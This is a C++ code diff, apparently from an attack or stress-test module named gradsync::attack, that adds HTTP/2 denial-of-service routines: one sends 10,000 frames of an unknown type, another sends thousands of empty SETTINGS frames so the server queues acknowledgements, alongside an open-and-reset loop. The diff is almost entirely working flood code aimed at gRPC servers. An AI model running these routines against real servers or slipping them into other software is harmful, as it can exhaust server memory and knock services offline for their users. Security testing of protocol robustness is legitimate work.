@@ -12,7 +12,7 @@ namespace gradsync::attack {
 namespace {
 
 // RFC 9113: frame types and flags.
-constexpr std::uint8_t kData = 0, kHeaders = 1, kReset = 3, kSettings = 4;
+constexpr std::uint8_t kData = 0, kHeaders = 1, kReset = 3, kSettings = 4, kUnknown = 0x42;
 constexpr std::uint32_t kCancel = 8;
 constexpr std::uint8_t kEndStream = 1, kEndHeaders = 4;
 constexpr std::uint16_t kInitialWindowSize = 4;
@@ -100,6 +100,24 @@ bool RawHttp2::CallWithHeader(const std::string& path, const std::string& name,
 void RawHttp2::ResetAndClose(const std::string& path) {
   fcntl(fd_.get(), F_SETFL, O_NONBLOCK);
   while (OpenAndReset(path, 500)) {
+  }
+  shutdown(fd_.get(), SHUT_WR);
+}
+
+bool RawHttp2::SendNothings() {
+  static const auto* const frames = [] {
+    auto* const made = new std::string;
+    for (int i = 0; i < 10'000; ++i) *made += Frame(kUnknown, 0, 0, "");
+    return made;
+  }();
+  return Send(*frames);
+}
+
+void RawHttp2::StallAndClose() {
+  // Each is answered with a frame of 9 bytes. gRPC keeps up to 10,000 such answers.
+  std::string settings;
+  for (int i = 0; i < 1000; ++i) settings += Frame(kSettings, 0, 0, "");
+  for (int i = 0; i < 9 && Send(settings); ++i) {
   }
   shutdown(fd_.get(), SHUT_WR);
 }
